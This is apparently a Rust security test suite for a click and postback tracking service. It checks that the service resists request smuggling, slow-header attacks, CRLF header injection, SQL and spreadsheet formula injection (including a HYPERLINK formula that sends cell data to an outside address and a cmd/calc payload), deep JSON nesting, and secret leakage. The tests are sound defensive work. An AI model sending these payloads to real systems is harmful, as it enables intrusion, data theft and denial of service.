//! What is sent to do harm: requests hidden in others, line breaks, statements, formulas, depth.

use postern_tests::http::{self, Connection};
use postern_tests::{Answer, Stack, on_both, wait};
use serde_json::Value;
use std::time::{Duration, Instant};

on_both!(shared: hidden_requests, dripping_heads, line_breaks, statements_and_formulas, depth_and_number);

on_both!(alone &[
    ("LOG__FILTER", "trace"),
    ("KAFKA__OPTIONS__SASL__PASSWORD", super::PLANTED[0]),
    ("CLICKS__TOKEN", super::PLANTED[1]),
]; secrets_stay_secret);

/// What must be seen nowhere: in the configuration, of a campaign, and one that a caller mistyped.
const PLANTED: [&str; 4] = [
    "planted-password-4f1c",
    "planted-clicks-token-88aa",
    "planted-campaign-secret-9b2e",
    "planted-but-wrong-token-17d3",
];

/// The campaign that has it. Others that use these parts keep theirs without.
const CAMPAIGN: i64 = 4_101_018;

/// Shapes whose end two readers may see in different places. What stands behind it in each is a
/// postback that must never be taken for one.
const SHAPES: [(&str, &str); 17] = [
    (
        "both lengths",
        "content-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n",
    ),
    (
        "both, the other way",
        "transfer-encoding: chunked\r\ncontent-length: 4\r\n\r\n0\r\n\r\n",
    ),
    (
        "two lengths",
        "content-length: 0\r\ncontent-length: 90\r\n\r\n",
    ),
    ("a list of lengths", "content-length: 0, 90\r\n\r\n"),
    ("a signed length", "content-length: +0\r\n\r\n"),
    ("a negative length", "content-length: -1\r\n\r\n"),
    ("a length in hexadecimal", "content-length: 0x0\r\n\r\n"),
    (
        "another coding",
        "transfer-encoding: xchunked\r\n\r\n0\r\n\r\n",
    ),
    (
        "chunked and more",
        "transfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    ),
    (
        "chunked twice",
        "transfer-encoding: chunked\r\ntransfer-encoding: identity\r\n\r\n0\r\n\r\n",
    ),
    (
        "a blank before the colon",
        "transfer-encoding : chunked\r\n\r\n0\r\n\r\n",
    ),
    (
        "a folded line",
        "transfer-encoding:\r\n chunked\r\n\r\n0\r\n\r\n",
    ),
    (
        "a huge chunk",
        "transfer-encoding: chunked\r\n\r\nffffffffffffffff0\r\n\r\n",
    ),
    (
        "a negative chunk",
        "transfer-encoding: chunked\r\n\r\n-1\r\n\r\n0\r\n\r\n",
    ),
    (
        "a chunk without its end",
        "transfer-encoding: chunked\r\n\r\n1\r\nab\r\n0\r\n\r\n",
    ),
    ("NUL in a value", "x-a: a\0b\r\n\r\n"),
    (
        "a bare return",
        "x-a: a\rtransfer-encoding: chunked\r\n\r\n",
    ),
];

async fn hidden_requests(stack: &Stack) {
    let token = stack.admin_token();
    for (what, shape) in SHAPES {
        let hidden = stack.new_click().await;
        let mut connection = Connection::open(stack.ingress.http).await.unwrap();
        let sent = format!(
            "POST /v1/postback HTTP/1.1\r\nhost: a\r\n{shape}\
             GET /v1/postback?clickid={hidden} HTTP/1.1\r\nhost: a\r\n\r\n"
        );
        connection.send(sent.as_bytes()).await.unwrap();
        let first = connection.answer().await;
        if let Ok(first) = &first {
            assert!((400..500).contains(&first.status), "{what}: {first:?}");
            assert_eq!(first.body.lines().count(), 1, "{what}: {first:?}");
        }
        assert!(
            connection.is_closed().await,
            "{what}: it goes on after {first:?}"
        );
        let target = format!("/v1/postbacks?clickid={hidden}&token={token}");
        let log = http::get(stack.reports_address(), &target).await.json();
        assert_eq!(log["postbacks"], Value::Array(vec![]), "{what}");
    }
}

/// A head that comes byte by byte has no more time than one that doesn't come.
async fn dripping_heads(stack: &Stack) {
    let stack = stack.variant(&[("HTTP__HEADER_TIMEOUT", "500ms")]).await;
    let begun = Instant::now();
    let mut connections = Vec::new();
    for _ in 0..20 {
        connections.push(Connection::open(stack.ingress.http).await.unwrap());
    }
    let head = "GET /v1/postback?clickid=a HTTP/1.1\r\nhost: a\r\nx-a: ".to_owned();
    let mut open = connections.len();
    for byte in head.bytes().chain(std::iter::repeat(b'x')) {
        for connection in &mut connections {
            // It fails once the other side has had enough.
            let _ = connection.send(&[byte]).await;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
        if begun.elapsed() > Duration::from_secs(2) {
            break;
        }
    }
    for connection in &mut connections {
        open -= usize::from(connection.is_closed().await);
    }
    assert_eq!(open, 0);
    assert!(begun.elapsed() < Duration::from_secs(20));
    let clickid = stack.new_click().await;
    assert_eq!(
        stack.postback(&format!("clickid={clickid}")).await.status,
        200
    );
}

const BREAKS: &str =
    "x%0d%0aX-Planted:%20yes%0d%0a%0d%0a%7B%22planted%22:1%7D%0a%0b%0c%c2%85%e2%80%a8";

/// In every value: no header of its own, one line in every answer, log and row.
async fn line_breaks(stack: &Stack) {
    let token = stack.admin_token();
    let mut planted = String::new();
    let names = [
        "revenue", "currency", "subid0", "subid1", "subid2", "subid3", "subid4", "txid", "event",
        "status", "sig", "clickid", BREAKS,
    ];
    let one_line = |answer: &Answer, what: &str| {
        assert_eq!(answer.header("x-planted"), None, "{what}: {answer:?}");
        let control = |c: char| c.is_ascii_control();
        assert!(!answer.body.contains(control), "{what}: {answer:?}");
        assert!(answer.status < 500, "{what}: {answer:?}");
        assert!(answer.json().is_object(), "{what}");
    };
    for name in names {
        let clickid = stack.new_click().await;
        let query = match name {
            "clickid" => format!("clickid={BREAKS}"),
            name => format!("clickid={clickid}&{name}={BREAKS}"),
        };
        let answer = stack.postback(&query).await;
        one_line(&answer, name);
        one_line(
            &stack.get(&format!("/v1/postback/check?{query}")).await,
            name,
        );
        one_line(
            &stack.post("/v1/postback", "", query.as_bytes()).await,
            name,
        );
        if name == "subid0" {
            planted = clickid;
        }
    }
    let targets = [
        format!("/v1/click?campaign={BREAKS}&site={BREAKS}"),
        format!("/v1/{BREAKS}"),
    ];
    for target in &targets {
        one_line(&stack.get(target).await, target);
    }
    for target in [
        format!("/v1/postback/status?request_id={BREAKS}"),
        format!("/v1/conversions?{BREAKS}={BREAKS}&token={token}"),
        format!("/v1/stats?group_by={BREAKS}&tz={BREAKS}&token={token}"),
        format!("/v1/campaigns/{BREAKS}?token={token}"),
        format!("/v1/conversions?token={BREAKS}"),
    ] {
        one_line(&http::get(stack.reports_address(), &target).await, &target);
    }
    let csv = |path: &str| format!("{path}?format=csv&clickid={planted}&token={token}");
    for path in ["/v1/conversions", "/v1/postbacks"] {
        let rows = wait::until("its rows", async || {
            let answer = http::get(stack.reports_address(), &csv(path)).await;
            (answer.body.contains("Planted")).then_some(answer.body)
        })
        .await;
        for line in rows.trim_end().split("\r\n") {
            assert!(!line.contains(['\r', '\n']), "{path}: {line:?}");
            assert!(!line.starts_with("X-Planted"), "{path}: {line:?}");
        }
    }
    for process in [
        Some(&stack.ingress),
        stack.consumer.as_ref(),
        stack.reports.as_ref(),
    ] {
        let Some(process) = process else { continue };
        for line in process.log().lines() {
            assert!(line.starts_with('{') && line.ends_with('}'), "{line:?}");
        }
    }
}

/// Texts that a store or a spreadsheet would run, if it were asked to.
const TEXTS: [&str; 8] = [
    "'; DROP TABLE conversions; --",
    "\" OR \"1\"=\"1",
    "' UNION SELECT token FROM tokens --",
    "\\'; SELECT pg_sleep(20); --",
    "%' OR '%'='",
    "$1); DELETE FROM clicks; --",
    "=HYPERLINK(\"http://192.0.2.1/?\"&A1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
];

fn encoded(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02x}")).collect()
}

async fn statements_and_formulas(stack: &Stack) {
    let token = stack.admin_token();
    for text in TEXTS {
        let clickid = stack.new_click().await;
        let sent = encoded(text);
        let query = format!("clickid={clickid}&subid0={sent}&txid={sent}&event={sent}");
        let answer = stack.postback(&query).await;
        assert_eq!(answer.json()["status"], "ok", "{text}: {answer:?}");
        stack.becomes(&answer.request_id(), "converted").await;
        // It finds itself and nothing else.
        let filters = format!("subid0={sent}&external_id={sent}&clickid={clickid}");
        let target = format!("/v1/conversions?{filters}&token={token}");
        let found = http::get(stack.reports_address(), &target).await.json();
        assert_eq!(
            found["conversions"].as_array().map(Vec::len),
            Some(1),
            "{text}: {found}"
        );
        assert_eq!(found["conversions"][0]["subid0"], text);
        let target = format!("/v1/conversions?clickid={sent}&token={token}");
        let none = http::get(stack.reports_address(), &target).await.json();
        assert_eq!(none["conversions"], Value::Array(vec![]), "{text}");
        let target = format!("/v1/conversions?{filters}&format=csv&token={token}");
        let csv = http::get(stack.reports_address(), &target).await.body;
        let quoted = text.replace('"', "\"\"");
        let guarded = match text.starts_with(['=', '@', '\'']) {
            true => format!("'{quoted}"),
            false => quoted,
        };
        assert!(csv.contains(&guarded), "{text}: {csv}");
        // Where a value is none of these.
        for target in [
            format!("/v1/stats?group_by={sent}&token={token}"),
            format!("/v1/postbacks?request_id={sent}&token={token}"),
            format!("/v1/conversions?cursor={sent}&token={token}"),
            format!("/v1/conversions?token={sent}"),
            format!("/v1/campaigns/{sent}?token={token}"),
        ] {
            let answer = http::get(stack.reports_address(), &target).await;
            assert!((400..500).contains(&answer.status), "{target}: {answer:?}");
        }
    }
}

async fn depth_and_number(stack: &Stack) {
    let depth = 100_000;
    let arrays = format!("{}{}", "[".repeat(depth), "]".repeat(depth));
    let objects = format!("{}1{}", "{\"a\":".repeat(depth), "}".repeat(depth));
    for deep in [&arrays, &objects] {
        for body in [deep.clone(), format!("{{\"clickid\":{deep}}}")] {
            let answer = stack
                .post("/v1/postback", "application/json", body.as_bytes())
                .await;
            assert_eq!(answer.status, 400, "{answer:?}");
            let answer = stack.post_clicks(&body).await;
            answer.is_error(400, "invalid_click");
        }
    }
    let clickid = stack.new_click().await;
    let mut form = format!("clickid={clickid}");
    for number in 0..100_000 {
        form.push_str(&format!("&p{number}="));
    }
    let begun = Instant::now();
    let answer = stack.post("/v1/postback", "", form.as_bytes()).await;
    answer.is_error(400, "too_many_parameters");
    let members: Vec<_> = (0..50_000)
        .map(|number| format!("\"p{number}\":1"))
        .collect();
    let json = format!("{{{}}}", members.join(","));
    let answer = stack
        .post("/v1/postback", "application/json", json.as_bytes())
        .await;
    assert_eq!(answer.status, 400, "{answer:?}");
    // Far more than it takes, far less than what grows with the square.
    assert!(begun.elapsed() < Duration::from_secs(10));
    for overlong in [
        "%c0%af",
        "%e0%80%af",
        "%f0%80%80%af",
        "%ed%a0%80",
        "%f5%80%80%80",
    ] {
        let answer = stack.postback(&format!("clickid={overlong}")).await;
        answer.is_error(400, "invalid_clickid");
        let clickid = stack.new_click().await;
        let answer = stack
            .postback(&format!("clickid={clickid}&subid0={overlong}"))
            .await;
        assert_eq!(answer.status, 200, "{answer:?}");
    }
}

/// Not in an answer, not in a log that tells everything, not in what commands print, not in metrics.
async fn secrets_stay_secret(stack: &mut Stack) {
    let admin = stack.admin_token();
    let [_, clicks, campaign, wrong] = PLANTED;
    let mut told = Vec::new();
    let reports = stack.reports_address();
    let secret = format!(r#"{{"secret":"{campaign}","default_currency":"x"}}"#);
    told.push(stack.campaign(&admin, CAMPAIGN, Some(&secret)).await.body);
    let secret = format!(r#"{{"secret":"{campaign}"}}"#);
    told.push(stack.campaign(&admin, CAMPAIGN, Some(&secret)).await.body);
    told.push(stack.campaign(wrong, CAMPAIGN, Some(&secret)).await.body);
    told.push(stack.campaign(&admin, CAMPAIGN, None).await.body);
    for token in [clicks, wrong, admin.as_str()] {
        let header = format!("Bearer {token}");
        let headers = [("authorization", header.as_str())];
        for body in [&br#"{"clickid":"planted","campaign_id":4101018}"#[..], b"{"] {
            let host = stack.ingress.http;
            let answer = http::request(host, "POST", "/v1/clicks", &headers, Some(body)).await;
            told.push(answer.body);
        }
        for path in [
            "conversions",
            "stats",
            "postbacks",
            "campaigns/4101018",
            "campaigns/x",
        ] {
            let target = format!("/v1/{path}?token={token}");
            told.push(http::get(reports, &target).await.body);
            let target = format!("/v1/{path}");
            let answer = http::request(reports, "GET", &target, &headers, None);
            told.push(answer.await.body);
        }
    }
    let answer = stack.postback("clickid=planted&revenue=1").await;
    told.push(answer.body.clone());
    stack.becomes(&answer.request_id(), "forbidden").await;
    for arguments in [
        &["campaign", "show", "4101018"][..],
        &["campaign", "list", "--json"],
        &["token", "list"],
        &["doctor"],
        &["config", "check"],
    ] {
        let output = stack.command(arguments);
        told.push(String::from_utf8(output.stdout).unwrap());
        told.push(String::from_utf8(output.stderr).unwrap());
    }
    for process in [
        Some(&stack.ingress),
        stack.consumer.as_ref(),
        stack.reports.as_ref(),
    ] {
        let Some(process) = process else { continue };
        told.push(process.log());
        told.push(http::get(process.admin, "/metrics").await.body);
        told.push(http::get(process.admin, "/readyz").await.body);
    }
    assert!(
        told.iter().any(|text| text.contains("\"TRACE\"")),
        "nobody told everything"
    );
    for secret in PLANTED.iter().copied().chain([admin.as_str()]) {
        for text in &told {
            let line = text.lines().find(|line| line.contains(secret));
            assert_eq!(line, None, "{secret}");
        }
    }
}
